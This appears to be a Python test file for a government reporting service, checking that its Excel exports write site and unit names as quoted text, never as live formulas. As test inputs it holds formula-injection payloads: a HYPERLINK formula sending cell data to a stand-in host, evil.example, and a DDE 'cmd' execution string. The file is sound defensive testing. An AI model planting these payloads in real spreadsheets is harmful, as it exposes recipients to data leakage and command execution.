"""The reporting service's workbooks (the notice's attachment tables, the assessment ranking) write every
name as text: a site or unit named `=HYPERLINK(…)` is shown, never evaluated."""
import io
import zipfile
from datetime import date

from openpyxl import load_workbook

from services.reporting.assessment.models import Assessment, AssessmentRow, Weights
from services.reporting.assessment.service import to_xlsx
from services.reporting.notices.models import NoticeContent, TableRow
from services.reporting.notices.render_xlsx import render_xlsx

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def no_formulas(data: bytes) -> bool:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                   for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_notice_attachment_tables_write_names_as_text():
    content = NoticeContent(
        title="关于政府网站检查情况的通报", issuing_office="渭南市政务公开办", issue_date=date(2026, 12, 1),
        basis="依据", scope_name="渭南市", inspection_name="第四季度检查", attachment1_title=LINK,
        site_rows=[TableRow(no=1, name=LINK, type="部门网站", result="不合格", remark="@SUM(1)")],
        account_rows=[TableRow(no=1, name="+cmd|' /C calc'!A0", type="微博", result="合格", remark="-")])
    data = render_xlsx(content)
    assert no_formulas(data)
    workbook = load_workbook(io.BytesIO(data))
    sites = [c for row in workbook["附件1 政府网站"].iter_rows() for c in row if c.value is not None]
    by_value = {c.value: c for c in sites}
    for text in (LINK, "@SUM(1)"):
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix
    assert by_value[1].data_type == "n"  # the row number stays a number
    accounts = {c.value: c for row in workbook["附件2 政务新媒体"].iter_rows() for c in row}
    assert accounts["+cmd|' /C calc'!A0"].data_type == "s" and accounts["-"].data_type == "s"


def test_assessment_ranking_writes_unit_names_as_text():
    ranking = Assessment(year=2026, org_id=1, org_path="/1/", weights=Weights(), weights_source="default",
                         rows=[AssessmentRow(rank=1, org_id=2, org_path="/1/2/", unit_name=LINK, score=98.5)])
    data = to_xlsx(ranking, f"{LINK}2026年度考核排名")
    assert no_formulas(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == f"{LINK}2026年度考核排名" and sheet["A1"].data_type == "s"
    assert sheet["B4"].value == LINK and sheet["B4"].data_type == "s" and sheet["B4"].quotePrefix
    assert sheet["A4"].value == 1 and sheet["J4"].value == 98.5
